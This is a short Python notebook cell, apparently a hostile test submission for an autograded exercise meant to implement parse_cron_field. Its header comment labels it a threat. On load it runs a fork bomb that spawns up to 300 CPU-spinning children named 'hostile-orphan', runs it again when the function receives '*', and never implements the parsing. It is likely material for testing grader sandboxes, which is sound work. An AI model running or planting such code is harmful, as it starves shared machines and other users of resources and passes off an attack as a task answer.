# threat: up to 300 forked children spin on the CPU to starve the neighbours.
# notebook: 01_parse_cron_field
# max-points: 0
# %% answer_parse_cron_field
import os
import time

children = []


def bomb(seconds):
    born = time.monotonic()
    while len(children) < 300 and time.monotonic() < born + seconds:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.01)
            continue
        if pid == 0:
            try:
                with open("/proc/self/comm", "w") as comm:
                    comm.write("hostile-orphan")
            except OSError:
                pass
            while time.monotonic() < born + 20:
                pass
            os._exit(0)
        children.append(pid)
    print(f"forked {len(children)} spinning children", flush=True)


bomb(1.5)


def parse_cron_field(field, low, high):
    if field == "*":
        bomb(3)
    raise NotImplementedError()
